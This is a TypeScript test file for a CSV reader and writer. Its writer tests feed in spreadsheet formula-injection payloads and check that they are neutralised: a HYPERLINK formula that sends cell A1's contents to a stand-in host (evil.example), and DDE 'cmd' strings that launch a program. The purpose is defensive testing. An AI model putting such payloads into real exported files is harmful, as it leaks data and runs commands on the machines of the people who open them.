import { describe, expect, it } from "vitest";
import { CsvReadError, readCsv, writeCsv } from "./csv.ts";

describe("writeCsv", () => {
  it.each([
    ["=", '=HYPERLINK("http://evil.example/?x="&A1,"Open")'],
    ["+", "+cmd|' /C calc'!A0"],
    ["-", "-2+3+cmd|' /C calc'!A0"],
    ["@", "@SUM(1+1)"],
    ["tab", "\t=1+1"],
    ["carriage return", "\r=1+1"],
  ])("neutralises a cell that starts with %s", (_, value) => {
    const csv = writeCsv(["cell"], [[value]]);
    const [, row] = readCsvRaw(csv);
    expect(row).toBe(`'${value}`);
    expect(readCsv(csv)[1]?.cells[0]).toBe(value);
  });

  it("leaves other text and numbers as they are, quotes where RFC 4180 asks, CRLF, optional BOM", () => {
    const csv = writeCsv(["a", "b", "c"], [['Say "hi", then', -4, "two\nlines"]]);
    expect(csv).toBe('a,b,c\r\n"Say ""hi"", then",-4,"two\nlines"\r\n');
    expect(writeCsv(["a"], [["x"]], { bom: true }).startsWith("\uFEFFa\r\n")).toBe(true);
    expect(writeCsv(["a", "b"], [[null, undefined]])).toBe("a,b\r\n,\r\n");
  });
});

describe("readCsv", () => {
  it("gives the line each record starts on, skipping a BOM and empty lines", () => {
    const records = readCsv('\uFEFFa,b\n"two\nlines",x\r\n\r\nc,d\n"x\n\ny",z,extra');
    expect(records.map((record) => record.line)).toEqual([1, 2, 5, 6]);
    expect(records[1]?.cells).toEqual(["two\nlines", "x"]);
    expect(records[3]?.cells).toEqual(["x\n\ny", "z", "extra"]);
  });

  it("names the line of a quote never closed", () => {
    expect(() => readCsv('a,b\n1,"open\n2,3')).toThrow(new CsvReadError(2, "a quoted cell is never closed"));
    expect(() => readCsv('a,b\n\n\n1,"open')).toThrow("Line 4: a quoted cell is never closed");
  });
});

/** The second line's first cell exactly as written (no restoring), for the writer's tests. */
function readCsvRaw(csv: string): string[] {
  const body = csv.slice(csv.indexOf("\r\n") + 2).replace(/\r\n$/, "");
  const cell = body.startsWith('"') ? body.slice(1, -1).replace(/""/g, '"') : body;
  return ["cell", cell];
}
